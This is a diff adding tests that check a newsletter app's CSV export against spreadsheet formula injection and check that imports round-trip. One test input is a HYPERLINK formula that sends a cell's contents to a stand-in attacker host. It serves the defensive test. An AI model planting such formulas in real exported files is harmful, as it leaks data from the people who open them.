@@ -604,3 +604,71 @@ async def test_the_api_streams_an_export_as_a_csv_attachment(app: TestApp, admin
     assert (await admin.get("/subscribers/1")).json()["email"] == "ada@example.com"
     for _ in range(app.settings.pool_max_size + 1):
         assert (await admin.get("/subscribers/export")).status_code == 200
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "'=already quoted",
+]
+
+
+async def test_an_export_neutralises_cells_a_spreadsheet_would_run_and_imports_back_as_it_was(
+    app: TestApp, admin: AdminClient, postgres_url: str, template_database: str
+) -> None:
+    """OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a CR gets an apostrophe in front."""
+    for n, name in enumerate(FORMULAS):
+        created = await admin.post("/subscribers", {"email": f"f{n}@example.com", "name": name})
+        assert created.status_code == 201, (name, created.text)
+    await admin.post(
+        "/subscribers", {"email": "=cmd@example.com", "name": "Plain Name", "status": "confirmed"}
+    )
+    await app.pool.execute("UPDATE subscriptions SET status = 'confirmed'")
+
+    exported = (await admin.get("/subscribers/export", list="default")).text
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    cells = {row["email"]: row["name"] for row in rows}
+
+    assert all(cells[f"f{n}@example.com"] == "'" + name for n, name in enumerate(FORMULAS)), cells
+    assert "'=cmd@example.com" in cells and cells["'=cmd@example.com"] == "Plain Name"
+    # Imported back (into another installation, as a move would), each value is what it was.
+    async with another_database(postgres_url, template_database) as other:
+        report = await run_import(other, exported)
+        names = dict(await other.fetch("SELECT email, name FROM subscribers"))
+    assert report.rejected == []
+    assert names == {
+        **{f"f{n}@example.com": name for n, name in enumerate(FORMULAS)},
+        "=cmd@example.com": "Plain Name",
+    }
+
+
+async def test_the_databases_neutralisation_is_the_one_the_import_undoes(conn: asyncpg.Connection) -> None:
+    """csv_cell (SQL, the export) and write_cell (Python, beside read_cell) agree on every kind of start."""
+    import random
+
+    from newsletter.services.imports import write_cell
+
+    rng = random.Random(13)
+    alphabet = "=+-@\t\r'a ,\"é\n"
+    values = [
+        "",
+        "'",
+        "''",
+        "'=",
+        "''=x",
+        "=",
+        "\t",
+        "\r\n",
+        "a'=",
+        "-",
+        "@x",
+        *("".join(rng.choice(alphabet) for _ in range(rng.randrange(6))) for _ in range(500)),
+    ]
+
+    written = await conn.fetchval(
+        "SELECT array_agg(csv_cell(v) ORDER BY n) FROM unnest($1::text[]) WITH ORDINALITY AS t(v, n)", values
+    )
+
+    assert written == [write_cell(value) for value in values]
